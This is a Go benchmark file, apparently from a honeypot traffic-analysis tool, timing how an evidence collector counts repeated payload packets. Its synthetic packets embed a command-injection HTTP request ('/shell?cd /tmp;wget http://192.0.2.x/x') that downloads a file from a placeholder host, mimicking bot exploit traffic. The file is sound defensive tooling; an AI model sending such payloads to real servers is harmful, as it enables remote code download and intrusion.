package evidence

import (
	"fmt"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/decode"
)

// BenchmarkCollectorAdd: payload packets of which one in five brings a new
// payload and most repeat one of a few thousand (as bots' exploits do),
// from many sources.
func BenchmarkCollectorAdd(b *testing.B) {
	var pkts []*decode.Packet
	var ts []int64
	for i := 0; i < 1<<16; i++ {
		payload := []byte(fmt.Sprintf("GET /shell?cd+/tmp;wget+http://192.0.2.%d/x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n", i%4096))
		if i%5 == 0 {
			payload = fmt.Appendf(payload, "%d", i)
		}
		pkts = append(pkts, pkt(fmt.Sprintf("198.51.%d.%d", i/251%256, i%251), 80, payload))
		ts = append(ts, t0+int64(i)*1e6)
	}
	b.ReportAllocs()
	b.ResetTimer()
	var c *Collector
	for i := 0; i < b.N; i++ {
		if i%len(pkts) == 0 {
			c = NewCollector(time.UTC, Options{})
		}
		c.Add(ts[i%len(pkts)], pkts[i%len(pkts)])
	}
}

// BenchmarkCollectorCapture: one capture's collection, Result included, of
// 1<<17 payload packets of 4,096 payloads from 32,768 sources (most count
// rows hold one packet, as in darknet traffic): time per packet.
func BenchmarkCollectorCapture(b *testing.B) {
	const n = 1 << 17
	var pkts []*decode.Packet
	for i := 0; i < n; i++ {
		payload := []byte(fmt.Sprintf("GET /shell?cd+/tmp;wget+http://192.0.2.%d/x HTTP/1.1\r\n\r\n", i*7%4096))
		pkts = append(pkts, pkt(fmt.Sprintf("198.%d.%d.%d", 18+i%2, i/4%128, i%251), uint16(80+i%3), payload))
	}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		c := NewCollector(time.UTC, Options{})
		for i, p := range pkts {
			c.Add(t0+int64(i)*1e6, p)
		}
		if r := c.Result(); len(r.Counts) == 0 {
			b.Fatal("no counts")
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*n), "ns/packet")
}
